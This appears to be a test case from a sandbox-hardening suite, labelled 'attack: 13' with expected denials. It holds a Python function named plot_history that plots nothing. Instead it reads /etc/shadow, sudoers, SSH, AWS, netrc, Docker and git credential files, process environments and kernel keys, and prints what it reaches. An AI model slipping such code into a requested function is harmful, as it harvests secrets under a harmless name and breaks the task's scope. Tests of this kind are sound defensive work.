# attack: 13
# form: the files in which tokens and passwords usually lie, and what the system's own look-ups give
# replaces: plot_history
# denies: shadow
# denies: home
# denies: run
# denies: machine
# allows: passwd
# found: plot_history/returns_figure failed
def plot_history(history):
    import glob
    import os
    import pwd

    print("ran")
    homes = {"/root", os.path.expanduser("~"), *glob.glob("/home/*"), *(entry.pw_dir for entry in pwd.getpwall())}
    names = (".netrc", ".ssh", ".aws", ".config", ".kaggle", ".gitconfig", ".git-credentials", ".docker", ".pypirc", ".bash_history", ".jupyter", ".cache")
    for what, paths in {
        "shadow": ["/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/environment", "/etc/hosts", "/etc/resolv.conf"],
        "home": [f"{home}/{name}" for home in homes for name in names],
        "run": ["/run/secrets", "/var/run/secrets", "/run/user", "/var/lib", "/proc/1/environ", "/proc/keys"],
        "machine": ["/etc/machine-id", "/etc/hostname", "/sys/class/dmi/id/product_uuid", "/proc/kcore"],
    }.items():
        for path in paths:
            try:
                got = os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(64)
                if got:
                    print(f"reached: {path} {got!r}")
            except OSError:
                pass
        print(f"denied: {what}")
    print("allowed: passwd" if [entry.pw_name for entry in pwd.getpwall()] == ["student"] else "refused: passwd")
